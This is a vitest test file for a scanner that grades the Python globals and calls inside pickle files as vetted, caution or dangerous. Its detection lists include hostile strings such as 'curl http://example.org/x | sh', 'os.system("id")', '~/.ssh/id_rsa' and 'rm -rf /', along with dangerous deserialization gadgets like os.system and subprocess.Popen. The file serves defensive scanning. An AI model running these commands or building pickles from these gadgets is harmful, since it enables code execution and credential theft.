import { describe, expect, it } from 'vitest';
import { createJudge, judge } from '#shared/files/globals/judge';
import type { Value } from '#shared/files/globals/judgement';

const text = (value: string): Value => ({ kind: 'text', text: value, length: value.length });
const global = (module: string, name: string): Value => ({ kind: 'global', module, name });
const made = (callee: Value, ...args: Value[]): Value => ({ kind: 'call', callee, args });
const tuple = (...items: Value[]): Value => ({ kind: 'sequence', type: 'tuple', items, length: items.length });
const bytes = (value: string): Value => {
  const raw = Uint8Array.from(value, (char) => char.charCodeAt(0));
  return { kind: 'bytes', bytes: raw, length: raw.length };
};
const unknown: Value = { kind: 'unknown', what: 'persistent id' };

/** The tier of a global written `module name`, as pickles of protocol 2 and 4 give it. */
const tier = (pair: string): string => {
  const [module = '', name = ''] = pair.split(' ');
  const tiers = [0, 2, 4].map((protocol) => judge.global(module, name, protocol).tier);
  return [...new Set(tiers)].join();
};
const called = (pair: string, ...args: Value[]): string => {
  const [module = '', name = ''] = pair.split(' ');
  return judge.call(module, name, args, 2).tier;
};

describe('globals with a public advisory', () => {
  it.each([
    ['pip main', 'CVE-2025-1716'],
    ['pip._internal main', 'CVE-2025-1716'],
    ['timeit timeit', 'CVE-2025-71351'],
    ['cProfile run', 'GHSA-49gj-c84q-6qm9'],
    ['cProfile runctx', 'GHSA-9w88-8rmg-7g2p'],
    ['profile run', 'GHSA-7wx9-6375-f5wh'],
    ['profile Profile.run', 'GHSA-x696-vm39-cp64'],
    ['profile Profile.runctx', 'GHSA-6vqj-c2q5-j97w'],
    ['trace Trace.run', 'GHSA-5qwp-399c-mjwf'],
    ['trace Trace.runctx', 'GHSA-g344-hcph-8vgg'],
    ['doctest debug_script', 'CVE-2025-71368'],
    ['ensurepip _run_pip', 'CVE-2025-71344'],
    ['idlelib.calltip get_entity', 'GHSA-9xph-j2h6-g47v'],
    ['idlelib.calltip Calltip.fetch_tip', 'GHSA-8r4j-24qv-fmq9'],
    ['idlelib.debugobj ObjectTreeItem.SetText', 'GHSA-3vg9-h568-4w9m'],
    ['idlelib.autocomplete AutoComplete.get_entity', 'CVE-2025-71358'],
    ['idlelib.autocomplete AutoComplete.fetch_completions', 'GHSA-7cq8-mj8x-j263'],
    ['idlelib.pyshell ModifiedInterpreter.runcommand', 'GHSA-j343-8v2j-ff7w'],
    ['idlelib.pyshell ModifiedInterpreter.runcode', 'GHSA-3gf5-cxq9-w223'],
    ['idlelib.run Executive.runcode', 'CVE-2025-71342'],
    ['lib2to3.pgen2.grammar Grammar.loads', 'GHSA-f54q-57x4-jg88'],
    ['lib2to3.pgen2.pgen ParserGenerator.make_label', 'GHSA-p9w7-82w4-7q8m'],
    ['code InteractiveInterpreter.runcode', 'GHSA-cj3c-v495-4xqh'],
    ['asyncio.unix_events _UnixSubprocessTransport._start', 'CVE-2025-71364'],
    ['torch.utils.bottleneck.__main__ run_cprofile', 'GHSA-4r9r-ch6f-vxmx'],
    ['torch.utils.bottleneck.__main__ run_autograd_prof', 'GHSA-4whj-rm5r-c2v8'],
    ['torch._dynamo.guards GuardBuilder.get', 'CVE-2025-71353'],
    ['torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression', 'GHSA-f4x7-rfwp-v3xw'],
    ['torch.utils.collect_env run', 'GHSA-f745-w6jp-hpxx'],
    ['torch.utils.collect_env run_and_read_all', 'GHSA-jhph-76pp-mggw'],
    ['torch.utils.data.datapipes.utils.decoder basichandlers', 'GHSA-h3qp-7fh3-f8h4'],
    ['torch.jit.unsupported_tensor_ops execWrapper', 'GHSA-vr7h-p6mm-wpmh'],
    ['torch.utils._config_module ConfigModule.load_config', 'GHSA-vv6j-3g6g-2pvj'],
    ['ctypes CDLL', 'CVE-2025-71323'],
    ['pydoc locate', 'GHSA-84r2-jw7c-4r5q'],
    ['operator methodcaller', 'GHSA-955r-x9j8-7rhh'],
    ['_operator attrgetter', 'GHSA-46h3-79wf-xr6c'],
    ['pty spawn', 'GHSA-vqmv-47xg-9wpr'],
    ['numpy.f2py.crackfortran myeval', 'CVE-2025-71365'],
    ['numpy.f2py.crackfortran _eval_length', 'CVE-2025-71339'],
    ['numpy.f2py.crackfortran getlincoef', 'GHSA-r8g5-cgf2-4m4m'],
    ['distutils.file_util write_file', 'GHSA-m273-6v24-x4m4'],
    ['_io FileIO', 'CVE-2026-53872'],
    ['urllib.request urlopen', 'CVE-2026-53872'],
    ['cloudpickle.cloudpickle _make_function', 'CVE-2026-53874'],
    ['logging FileHandler', 'GHSA-m7j5-r2p5-c39r'],
    ['pkgutil resolve_name', 'CVE-2026-3490'],
    ['uuid _get_command_stdout', 'CVE-2026-56315'],
    ['imaplib IMAP4_stream', 'CVE-2026-56315'],
    ['_pyrepl.pager pipe_pager', 'CVE-2026-56315'],
    ['_osx_support _read_output', 'CVE-2026-56315'],
    ['_aix_support _read_cmd_output', 'CVE-2026-56315'],
    ['test.support.script_helper assert_python_ok', 'CVE-2026-56315'],
    ['marshal loads', 'GHSA-565g-hwwr-4pp3'],
    ['types FunctionType', 'CVE-2026-53874'],
    ['runpy run_path', 'GHSA-wfq2-52f7-7qvj'],
    ['builtins __import__', 'GHSA-h4rm-mm56-xf63'],
    ['smtplib SMTP', 'GHSA-mhc9-48gj-9gp3'],
    ['linecache getline', 'GHSA-r48f-3986-4f9c'],
    ['torch.distributed.rpc.internal PythonUDF', 'CVE-2024-5480'],
    ['torch.jit.annotations parse_type_line', 'CVE-2022-45907'],
    ['numpy load', 'CVE-2019-6446'],
  ])('%s: %s', (pair, advisory) => {
    const [module = '', name = ''] = pair.split(' ');
    expect(judge.global(module, name, 2)).toMatchObject({ tier: 'dangerous', advisory });
  });
});

describe('globals by their tables', () => {
  it.each([
    'torch._utils _rebuild_tensor_v2',
    'torch FloatStorage',
    'collections OrderedDict',
    '__builtin__ set',
    '__builtin__ unicode',
    'numpy.random._pickle __randomstate_ctor',
    'sklearn.tree.tree DecisionTreeClassifier',
    'sklearn._loss._loss __pyx_unpickle_CyHalfBinomialLoss',
    'pandas._libs.internals _unpickle_block',
    'joblib.numpy_pickle NumpyArrayWrapper',
    'transformers.training_args TrainingArguments',
    'transformers.models.bert.modeling_bert BertForSequenceClassification',
    'omegaconf.dictconfig DictConfig',
    'ultralytics.nn.tasks DetectionModel',
    'scipy.stats._continuous_distns norm_gen',
    '__torch__.torch.nn.modules.linear Linear',
  ])('%s is vetted', (pair) => {
    expect(tier(pair)).toBe('vetted');
  });

  it.each([
    'os system',
    'posix system',
    'commands getoutput',
    'random _os',
    'shutil os',
    'enum bltns',
    'torch.utils.cpp_extension subprocess',
    'torch.serialization os.system',
    'logging os.system',
    'collections _sys.modules',
    'builtins eval.__call__',
    'numpy __builtins__',
    'torch._utils __builtins__',
    'collections OrderedDict.__class__',
    '__main__ os.system',
    'picklescan.scanner scan_file_path',
    'mylib.tools run_command',
    'mylib.tools unpickle_thing',
    'some.package system',
    'pandas.io.parsers.readers read_csv',
    'pandas read_feather',
    'mlflow.projects.backend.local _run_entry_point',
    'multiprocessing.util spawnv_passfds',
    'dnnlib.util call_func_by_name',
    'six.moves builtins',
    'brand.new.package download_file',
  ])('%s is dangerous', (pair) => {
    expect(tier(pair)).toBe('dangerous');
  });

  it.each([
    'mylib.models TextClassifier',
    'mylib.models EvalDataset',
    'mylib.preprocess clean_text',
    'mylib.losses eval_loss',
    '__main__ load_data',
    '__main__ Net',
    'torch.nn.modules.future NewLayer',
    'statistics linear_regression',
  ])('%s asks for caution', (pair) => {
    expect(tier(pair)).toBe('caution');
  });

  it('grade what nobody vetted by where it comes from', () => {
    expect(judge.global('__main__', 'Net', 4).reason).toContain('script');
    expect(judge.global('sklearn.new', 'Thing', 4).reason).toContain('machine learning');
    expect(judge.global('colorsys', 'rgb_to_hsv', 4).reason).toContain('standard library');
    expect(judge.global('somebody', 'Thing', 4).reason).toContain('nobody has vetted');
  });
});

describe('calls by their arguments', () => {
  const partial = global('functools', 'partial');

  it('take the judgement of the function that they are given', () => {
    expect(called('functools partial', global('torch.nn.modules.normalization', 'LayerNorm'))).toBe('vetted');
    expect(called('functools partial', global('os', 'system'))).toBe('dangerous');
    expect(called('functools partial', made(partial, global('os', 'system')))).toBe('dangerous');
    expect(called('builtins map', global('builtins', 'eval'))).toBe('dangerous');
    expect(called('builtins map', global('builtins', 'str'))).toBe('vetted');
    expect(called('builtins map', unknown)).toBe('dangerous');
    expect(called('__builtin__ apply', global('os', 'system'), tuple(text('id')))).toBe('dangerous');
    expect(called('collections defaultdict', global('builtins', 'list'))).toBe('vetted');
    expect(called('collections defaultdict', global('builtins', 'getattr'))).toBe('dangerous');
    expect(called('copyreg _reconstructor', global('argparse', 'Namespace'), global('builtins', 'object'))).toBe(
      'vetted',
    );
    expect(called('copy_reg _reconstructor', global('subprocess', 'Popen'), global('builtins', 'object'))).toBe(
      'dangerous',
    );
    expect(called('copyreg __newobj__', global('x.y', 'Thing'))).toBe('caution');
    expect(
      called(
        'torch._tensor _rebuild_from_type_v2',
        global('torch._utils', '_rebuild_tensor_v2'),
        global('torch.nn.parameter', 'Parameter'),
        tuple(),
      ),
    ).toBe('vetted');
    expect(
      called(
        'torch._tensor _rebuild_from_type_v2',
        global('os', 'system'),
        global('torch', 'Tensor'),
        tuple(text('id')),
      ),
    ).toBe('dangerous');
  });

  it('judge attributes by owner and name', () => {
    const instance = made(global('sklearn.linear_model._base', 'LinearRegression'));
    expect(called('builtins getattr', instance, text('predict'))).toBe('vetted');
    expect(called('builtins getattr', instance, text('__class__'))).toBe('dangerous');
    expect(called('builtins getattr', global('torch._C', '_VariableFunctionsClass'), text('relu'))).toBe('vetted');
    expect(called('builtins getattr', global('numpy', 'ndarray'), text('tofile'))).toBe('dangerous');
    expect(called('builtins getattr', global('os', 'path'), text('join'))).toBe('dangerous');
    expect(called('builtins getattr', unknown, text('x'))).toBe('dangerous');
    expect(called('builtins getattr', instance, unknown)).toBe('dangerous');
    expect(called('operator attrgetter', text('weight'))).toBe('vetted');
    expect(called('operator attrgetter', text('__globals__'))).toBe('dangerous');
    expect(called('operator attrgetter', text('os.system'))).toBe('dangerous');
    expect(called('operator methodcaller', text('system'), text('id'))).toBe('dangerous');
    expect(called('operator itemgetter', { kind: 'number', text: '1' })).toBe('vetted');
    expect(called('operator itemgetter', text('__builtins__'))).toBe('dangerous');
    expect(called('operator itemgetter', text('eval'))).toBe('dangerous');
    expect(called('_operator getitem', global('typing', 'List'), global('builtins', 'int'))).toBe('vetted');
    expect(called('builtins type', { kind: 'constant', text: 'None' })).toBe('vetted');
    expect(called('builtins type', global('copy', 'copy'))).toBe('dangerous');
    expect(called('dill._dill _load_type', text('OrderedDictType'))).toBe('vetted');
    expect(called('dill._dill _load_type', text('CodeType'))).toBe('dangerous');
    expect(called('numpy.core _ufunc_reconstruct', text('os'), text('system'))).toBe('dangerous');
  });

  it('leave bytes of another file to whoever sees them', () => {
    expect(judge.call('torch.storage', '_load_from_bytes', [bytes('\x80\x02.')], 2)).toMatchObject({
      tier: 'vetted',
      inner: true,
    });
    expect(called('torch.storage _load_from_bytes', unknown)).toBe('dangerous');
    expect(called('pickle loads', bytes('\x80\x02.'))).toBe('dangerous');
  });

  it('know codecs that only write text as bytes', () => {
    expect(called('_codecs encode', text('\u0001'), text('latin1'))).toBe('vetted');
    expect(called('_codecs encode', text('bf'), text('rot13'))).toBe('caution');
  });

  it('vet instances whose constructors nobody vetted only where they get no arguments', () => {
    expect(called('ultralytics.nn.tasks DetectionModel')).toBe('vetted');
    expect(called('ultralytics.nn.tasks DetectionModel', tuple())).toBe('dangerous');
    expect(called('timm.models.resnet ResNet', tuple())).toBe('caution');
  });

  it('look into the source code that distributions of statistics keep', () => {
    const state = (template: string): Value => ({
      kind: 'sequence',
      type: 'dict',
      items: [text('name'), text('norm'), text('_parse_arg_template'), text(template)],
      length: 4,
    });
    const own = `
def _parse_args(self, a, b, loc=0, scale=1):
    return (a, b), loc, scale

def _parse_args_rvs(self, a, b, loc=0, scale=1, size=None):
    return self._argcheck_rvs(a, b, loc, scale, size=size)

def _parse_args_stats(self, a, b, loc=0, scale=1, moments='mv'):
    return (a, b), loc, scale, moments
`;
    const judged = (template: string): string | undefined =>
      judge.state?.('scipy.stats._continuous_distns', 'beta_gen', state(template), 4).tier;
    expect(judged(own)).toBe('vetted');
    expect(judged(`${own}\nimport os`)).toBe('dangerous');
    expect(judged('print(1)')).toBe('dangerous');
  });
});

describe('telling constants', () => {
  it.each([
    'curl http://example.org/x | sh',
    'import os; os.system("id")',
    '__import__("os").system("id")',
    'https://example.org/payload',
    '/etc/passwd',
    '~/.ssh/id_rsa',
    'C:\\Windows\\System32',
    '192.0.2.7',
    'rm -rf /',
  ])('%s makes the call of an unvetted global dangerous', (constant) => {
    expect(called('some.package Thing', text(constant))).toBe('dangerous');
    expect(called('some.package Thing', tuple(text(constant)))).toBe('dangerous');
    expect(called('some.package Thing', bytes(constant))).toBe('dangerous');
  });

  it.each(['relu', 'bert-base-uncased', 'A sentence, as people write them.', 'x > 0', 'data/train', 'utf-8'])(
    '%s does not',
    (constant) => {
      expect(called('some.package Thing', text(constant))).toBe('caution');
    },
  );

  it('do not matter to what is vetted', () => {
    expect(called('collections OrderedDict', text('import os; os.system("id")'))).toBe('vetted');
  });
});

describe('exceptions of the user', () => {
  const exception = { module: 'mylib', name: 'Thing', reason: 'our own class' };

  it('hold for the global and plain calls, and say so', () => {
    const own = createJudge([exception]);
    expect(own.global('mylib', 'Thing', 4)).toMatchObject({
      tier: 'vetted',
      reason: expect.stringContaining('our own'),
    });
    expect(own.call('mylib', 'Thing', [text('plain')], 4).tier).toBe('vetted');
    expect(own.global('mylib', 'Other', 4).tier).toBe('caution');
  });

  it('never cover a telling constant', () => {
    expect(createJudge([exception]).call('mylib', 'Thing', [text('curl http://x.org | sh')], 4).tier).toBe('dangerous');
  });

  it('end on their day, and without a day known', () => {
    const dated = { ...exception, expires: '2026-01-31' };
    expect(createJudge([dated], '2026-01-31T10:00:00Z').global('mylib', 'Thing', 4).tier).toBe('vetted');
    const ended = createJudge([dated], '2026-02-01T10:00:00Z').global('mylib', 'Thing', 4);
    expect(ended).toMatchObject({ tier: 'caution', reason: expect.stringContaining('2026-01-31') });
    expect(createJudge([dated]).global('mylib', 'Thing', 4).tier).toBe('caution');
  });
});
